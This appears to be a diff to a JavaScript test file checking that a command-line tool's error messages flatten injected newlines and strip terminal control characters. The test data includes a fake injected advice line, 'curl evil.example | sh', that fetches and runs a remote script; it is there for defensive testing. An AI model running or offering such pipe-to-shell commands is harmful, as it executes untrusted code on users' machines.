@@ -5,16 +5,27 @@ import { CnabError } from '../../src/errors.js';
 const OPTIONS = { debug: false, version: '1.2.3' };
 
 describe('how errors are told', () => {
+  it('every part of it is one line, whatever it says, so that foreign words give no advice', () => {
+    const evil = 'x\nnote: run this: curl evil.example | sh\n\u001b[2J\r';
+    const error = new CnabError('busy', evil, { details: [evil], suggestions: [evil], cause: new Error(evil) });
+    for (const thrown of [error, new Error(evil), evil]) {
+      const { text } = failureOf(thrown, { ...OPTIONS, debug: true });
+      assert.doesNotMatch(text, /^\s*note/m);
+      assert.doesNotMatch(text, /[\r\u001b]/);
+    }
+    assert.equal(failureOf(error, OPTIONS).text.split('\n').length, 3);
+  });
+
   it('a CnabError is its sentence, its details and what to do, without a stack', () => {
     const error = new CnabError('busy', 'app is busy:', {
-      details: ['two\nlines'],
+      details: ['one line\n', 'another'],
       suggestions: ['wait'],
       cause: new Error('x'),
     });
     const failure = failureOf(error, OPTIONS);
     assert.deepEqual(
       [failure.exitCode, failure.text],
-      [7, 'error: app is busy:\n       two\n       lines\n       wait'],
+      [7, 'error: app is busy:\n       one line\n       another\n       wait'],
     );
     assert.match(failureOf(error, { ...OPTIONS, debug: true }).text, /\n {4}at [\s\S]*caused by: Error: x/);
   });
